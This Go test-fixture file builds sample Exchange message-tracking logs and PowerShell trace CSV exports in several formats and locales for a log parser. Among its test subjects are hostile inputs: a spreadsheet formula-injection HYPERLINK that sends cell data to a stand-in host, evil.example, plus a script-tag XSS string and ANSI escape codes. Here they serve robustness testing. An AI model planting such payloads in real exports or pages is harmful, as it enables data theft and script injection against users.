package trace

import (
	"strings"
)

// Samples of every dialect, written the way Exchange and PowerShell write
// them. Values are realistic (statuses, source contexts and event names as
// Exchange logs them); addresses use reserved test domains.

// cols splits a header into column names.
func cols(header string) []string { return strings.Split(header, ",") }

// fill lays kv out in header order; absent columns are empty.
func fill(header []string, kv map[string]string) []string {
	out := make([]string, len(header))
	for i, h := range header {
		out[i] = kv[h]
	}
	return out
}

var header2016 = cols(strings.TrimPrefix(fields2016, "#Fields: "))

const fields2010 = "#Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-message-id,message-id,recipient-address,recipient-status,total-bytes,recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data"

// Subjects that try to break a reader or a reporter: they must come through
// byte-exact.
const (
	subjFormula = `=HYPERLINK("http://evil.example/?q="&A1,"Click me")`
	subjScript  = `<script>alert('x')</script>`
	subjANSI    = "\x1b[31mURGENT\x1b[0m invoice"
	subjComma   = `Re: "Budget", Q3; final`
	subjIntl    = "Отчёт за март — 月次報告 — تقرير"
	subjEscapes = `line one\r\nline two` // the raw log's escaped line break, kept as written
)

// The blob and the statuses used across samples.
const (
	ledAF     = "250 2.1.5 RESOLVER.MSGTYPE.AF; handled AutoForward addressed to external recipient"
	blob520   = "[{LED=550 5.7.520 Access denied, Your organization does not allow external forwarding. Please contact your administrator for further assistance. AS(7555)};{MSG=};{FQDN=mx.partner.example};{IP=192.0.2.25};{LRT=}]"
	statusETR = "550 5.7.1 TRANSPORT.RULES.RejectMessage; the message was rejected by organization policy"
)

// rawLog is a 2016 tracking log: header block, a RECEIVE for two
// recipients, a FAIL pairing two statuses (one a blob, one single-quoted
// because it holds ';'), the forwarding DROP, a ragged row, quoted
// recipients, then a #Fields: change to the 2010 layout mid-file.
func rawLog() string {
	t := func(kv map[string]string) string { return csvLine(",", fill(header2016, kv)...) }
	lines := []string{
		"#Software: Microsoft Exchange Server",
		"#Version: 15.01.2507.039",
		"#Log-type: Message Tracking Log",
		"#Date: 2024-03-04T08:00:00.000Z",
		fields2016,
		t(map[string]string{ // line 6
			"date-time": "2024-03-04T08:00:01.123Z", "client-ip": "203.0.113.7", "server-hostname": "EX01",
			"source-context": "08DC3C1A2B3C4D5E;2024-03-04T08:00:00.998Z;0", "connector-id": `EX01\Default Frontend EX01`,
			"source": "SMTP", "event-id": "RECEIVE", "message-id": "<cafe01@contoso.test>",
			"recipient-address": "alice@contoso.test;bob@contoso.test", "recipient-count": "2",
			"message-subject": subjFormula, "sender-address": "news@vendor.example", "directionality": "Incoming",
		}),
		t(map[string]string{ // line 7
			"date-time": "2024-03-04T08:00:02.500Z", "server-hostname": "EX01", "source": "SMTP", "event-id": "FAIL",
			"message-id": "<cafe02@contoso.test>", "recipient-address": "carol@partner.example;dave@partner.example",
			"recipient-status": "'" + blob520 + "';'" + statusETR + "'", "message-subject": subjComma,
			"sender-address": "alice@contoso.test", "directionality": "Originating",
			"custom-data": "S:TRA=ETR|ruleId=5b1fb0c4-fd3f-4d3a-92b0-1b6c4a2f1e11|action=RejectMessage",
		}),
		t(map[string]string{ // line 8
			"date-time": "2024-03-04T08:00:03.000Z", "server-hostname": "EX01", "source-context": "BlockAFToExternalUser",
			"source": "ROUTING", "event-id": "DROP", "message-id": "<cafe03@contoso.test>",
			"recipient-address": "alice.private@freemail.example", "recipient-status": "'" + ledAF + "'",
			"message-subject": subjScript, "sender-address": "alice@contoso.test", "directionality": "Originating",
		}),
		"2024-03-04T08:00:04.000Z,,,,EX01,,,SMTP,RECEIVE,1234", // line 9: ragged
		t(map[string]string{ // line 10
			"date-time": "2024-03-04T08:00:05.000Z", "server-hostname": "EX01", "source": "STOREDRIVER", "event-id": "DELIVER",
			"recipient-address": "'o''brien@contoso.test';'semi;colon@contoso.test'",
			"recipient-status":  "250 2.1.5 Recipient OK;250 2.1.5 Recipient OK", "message-subject": subjANSI,
			"sender-address": "bob@contoso.test",
		}),
		fields2010, // line 11
		csvLine(",", "2024-03-04T09:00:00.000Z", "", "", "", "EX02", "", "", "STOREDRIVER", "DELIVER", "42", "<cafe04@contoso.test>",
			"erin@contoso.test", "250 2.1.5 Recipient OK", "5120", "1", "", "", subjEscapes, "frank@contoso.test", "", "", "Originating", "", "", "", ""),
		t(map[string]string{"date-time": "bad"}), // line 13: 30 fields under a 26-column header
	}
	return crlf(strings.Join(lines, "\n") + "\n")
}

var headerTrackingCSV = cols("PSComputerName,RunspaceId,PSShowComputerName,Timestamp,ClientIp,ClientHostname,ServerIp,ServerHostname,SourceContext,ConnectorId,Source,EventId,InternalMessageId,MessageId,NetworkMessageId,Recipients,RecipientStatus,TotalBytes,RecipientCount,RelatedRecipientAddress,Reference,MessageSubject,Sender,ReturnPath,Directionality,TenantId,OriginalClientIp,MessageInfo,MessageLatency,MessageLatencyType,EventData,TransportTrafficType,SchemaVersion")

// trackingCSV is Windows PowerShell 5.1 output: #TYPE line, PS* columns,
// every value quoted, en-US timestamps. The second row's subject holds a
// real line break (Export-Csv writes it inside the quotes); the third has
// unjoined arrays; the fourth (10/13) proves month-first.
func trackingCSV() string {
	q := func(kv map[string]string) string {
		kv["PSComputerName"], kv["RunspaceId"], kv["PSShowComputerName"] = "ex01.contoso.test", "6c1e9d1a-3a77-4bb2-9d16-0f5e8e8c1a11", "False"
		return quoteAll(",", fill(headerTrackingCSV, kv)...)
	}
	lines := []string{
		"#TYPE Deserialized.Microsoft.Exchange.Management.TransportLogSearchTasks.MessageTrackingEvent",
		quoteAll(",", headerTrackingCSV...),
		q(map[string]string{ // line 3
			"Timestamp": "10/7/2020 7:27:20 PM", "ServerHostname": "EX01", "SourceContext": "BlockAFToExternalUser",
			"Source": "ROUTING", "EventId": "DROP", "MessageId": "<af01@contoso.test>",
			"Recipients": "alice.private@freemail.example", "RecipientStatus": ledAF, "MessageSubject": subjFormula,
			"Sender": "alice@contoso.test", "Directionality": "Originating", "Reference": "",
		}),
		q(map[string]string{ // lines 4-5
			"Timestamp": "10/7/2020 7:30:00 PM", "ServerHostname": "EX01", "Source": "SMTP", "EventId": "RECEIVE",
			"Recipients": "bob@contoso.test;carol@contoso.test", "MessageSubject": "two\nlines " + subjIntl, // crlf() makes it \r\n
			"Sender": "news@vendor.example", "Directionality": "Incoming",
		}),
		q(map[string]string{ // line 6
			"Timestamp": "10/8/2020 1:00:00 AM", "ServerHostname": "EX01", "Source": "STOREDRIVER", "EventId": "DELIVER",
			"Recipients": "System.String[]", "RecipientStatus": "System.String[]", "Reference": "System.String[]",
			"MessageSubject": subjANSI, "Sender": "news@vendor.example",
		}),
		q(map[string]string{ // line 7
			"Timestamp": "10/13/2020 12:00:00 PM", "ServerHostname": "EX01", "Source": "SMTP", "EventId": "SEND",
			"Recipients": "dave@partner.example", "RecipientStatus": "250 2.0.0 OK", "MessageSubject": subjScript,
			"Sender": "bob@contoso.test",
		}),
	}
	return crlf(strings.Join(lines, "\n") + "\n")
}

// trackingCSVGerman is a de-DE export: ';' delimiter, day-first dotted dates,
// only some columns selected, no #TYPE line (PowerShell 7).
func trackingCSVGerman() string {
	h := []string{"Timestamp", "EventId", "Source", "Sender", "Recipients", "MessageSubject", "ServerHostname"}
	return crlf(strings.Join([]string{
		quoteAll(";", h...),
		quoteAll(";", "07.10.2020 19:27:20", "RECEIVE", "SMTP", "news@vendor.example", "alice@contoso.test", "Angebot; gültig bis Freitag", "EX01"),
		quoteAll(";", "08.10.2020 07:05:00", "DELIVER", "STOREDRIVER", "news@vendor.example", "alice@contoso.test", subjIntl, "EX01"),
	}, "\n") + "\n")
}

var headerMessageTrace = cols("PSComputerName,RunspaceId,PSShowComputerName,Organization,MessageId,Received,SenderAddress,RecipientAddress,Subject,Status,ToIP,FromIP,Size,MessageTraceId,StartDate,EndDate,Index")

// messageTrace is Get-MessageTrace | Export-Csv -Encoding Unicode from an
// en-US session: Received is UTC, culture formatted.
func messageTrace() string {
	q := func(kv map[string]string) string {
		kv["PSComputerName"], kv["Organization"], kv["StartDate"], kv["EndDate"] = "outlook.office365.com", "contoso.onmicrosoft.com", "3/12/2024 12:00:00 AM", "3/15/2024 12:00:00 AM"
		return quoteAll(",", fill(headerMessageTrace, kv)...)
	}
	return crlf(strings.Join([]string{
		quoteAll(",", headerMessageTrace...),
		q(map[string]string{"MessageId": "<m1@contoso.test>", "Received": "3/14/2024 4:05:06 PM", "SenderAddress": "alice@contoso.test",
			"RecipientAddress": "ext@partner.example", "Subject": subjIntl, "Status": "Failed", "Size": "18233",
			"MessageTraceId": "0f4f7b0e-9c1e-4a55-8a4f-1d1f5d0e2b3c", "Index": "0"}),
		q(map[string]string{"MessageId": "<m2@contoso.test>", "Received": "3/14/2024 4:06:00 AM", "SenderAddress": "alice@contoso.test",
			"RecipientAddress": "bob@contoso.test", "Subject": subjComma, "Status": "Delivered", "Size": "9120",
			"MessageTraceId": "1a2b3c4d-0000-4a55-8a4f-1d1f5d0e2b3c", "Index": "1"}),
	}, "\n") + "\n")
}

// messageTraceV2German is Get-MessageTraceV2 from a de-DE session: no PS*
// columns, ';' delimiter.
func messageTraceV2German() string {
	h := []string{"Received", "SenderAddress", "RecipientAddress", "Subject", "Status", "ToIP", "FromIP", "Size", "MessageId", "MessageTraceId"}
	return crlf(strings.Join([]string{
		quoteAll(";", h...),
		quoteAll(";", "02.06.2025 09:14:03", "alice@contoso.test", "ext@partner.example", "Weiterleitung", "Failed", "", "10.0.0.5", "4411", "<v2@contoso.test>", "2c9e3a5e-8d9b-4f0e-9e3e-6f2d1b7a9c10"),
		quoteAll(";", "13.06.2025 23:59:59", "bob@contoso.test", "carol@contoso.test", subjScript, "Delivered", "", "", "512", "<v2b@contoso.test>", "3d0f4b6f-9eac-4f0e-9e3e-6f2d1b7a9c10"),
	}, "\n") + "\n")
}

// traceDetail is Get-MessageTraceDetail showing the silent forwarding drop.
func traceDetail() string {
	h := []string{"Organization", "MessageId", "MessageTraceId", "Date", "Event", "Action", "Detail", "Data", "SenderAddress", "RecipientAddress"}
	detail := "Reason: [{LED=" + ledAF + "};{MSG=};{FQDN=};{IP=};{LRT=}]"
	return crlf(strings.Join([]string{
		quoteAll(",", h...),
		quoteAll(",", "contoso.onmicrosoft.com", "<af02@contoso.test>", "5e6f7a8b-1111-4a55-8a4f-1d1f5d0e2b3c", "10/17/2020 7:27:20 PM",
			"Receive", "", "Message received by: AM0PR01MB1234.eurprd01.prod.exchangelabs.com", `<root><MEP Name="Connector" String="OnPremToO365"/></root>`,
			"alice@contoso.test", "alice.private@freemail.example"),
		quoteAll(",", "contoso.onmicrosoft.com", "<af02@contoso.test>", "5e6f7a8b-1111-4a55-8a4f-1d1f5d0e2b3c", "10/17/2020 7:27:21 PM",
			"Drop", "", detail, "", "alice@contoso.test", "alice.private@freemail.example"),
	}, "\n") + "\n")
}

var headerExtended = cols("date_time_utc,client_ip,client_hostname,server_ip,server_hostname,source_context,connector_id,source,event_id,internal_message_id,message_id,network_message_id,recipient_address,recipient_status,total_bytes,recipient_count,related_recipient_address,reference,message_subject,sender_address,return_path,message_info,directionality,tenant_id,original_client_ip,original_server_ip,custom_data")

// extendedReport is a historical search extended report: snake_case, rows
// not in time order, a transport rule rejection and a two-recipient deliver.
func extendedReport() string {
	q := func(kv map[string]string) string { return quoteAll(",", fill(headerExtended, kv)...) }
	return crlf(strings.Join([]string{
		quoteAll(",", headerExtended...),
		q(map[string]string{"date_time_utc": "2024-05-07T10:15:31.4570000Z", "server_hostname": "AM0PR01MB1234", "source": "AGENT",
			"event_id": "FAIL", "message_id": "<etr@contoso.test>", "recipient_address": "ext@partner.example",
			"recipient_status": statusETR, "message_subject": subjANSI, "sender_address": "alice@contoso.test",
			"directionality": "Originating", "custom_data": "S:TRA=ETR|ruleId=5b1fb0c4-fd3f-4d3a-92b0-1b6c4a2f1e11|action=RejectMessage",
			"source_context": "Transport Rule Agent", "tenant_id": "72f988bf-86f1-41af-91ab-2d7cd011db47"}),
		q(map[string]string{"date_time_utc": "2024-05-07T10:15:30.1230000Z", "server_hostname": "AM0PR01MB1234", "source": "STOREDRIVER",
			"event_id": "DELIVER", "message_id": "<two@contoso.test>", "recipient_address": "bob@contoso.test;carol@contoso.test",
			"recipient_status": "250 2.1.5 Recipient OK;'250 2.1.5 RESOLVER.FWD.Forwarded; recipient forwarded'",
			"message_subject":  subjIntl, "sender_address": "alice@contoso.test", "directionality": "Originating"}),
	}, "\n") + "\n")
}

// enhancedSummary is the historical search enhanced summary report, with the
// recipients packed into recipient_status. timeCol is origin_timestamp_utc
// (seen in exports) or origin_timestamp (in the documentation).
func enhancedSummary(timeCol string) string {
	h := []string{timeCol, "sender_address", "recipient_status", "message_subject", "total_bytes", "message_id", "network_message_id", "original_client_ip", "directionality", "connector_id", "delivery_priority"}
	return crlf(strings.Join([]string{
		quoteAll(",", h...),
		quoteAll(",", "2024-05-07T10:15:30.0000000Z", "alice@contoso.test", "bob@contoso.test##Receive, Deliver;ext@partner.example##Receive, Fail",
			subjComma, "20480", "<sum@contoso.test>", "9c0a6f31-0b6e-4c1d-9a0e-08dc6e6f5b20", "203.0.113.7", "Originating", "", "Normal"),
	}, "\n") + "\n")
}
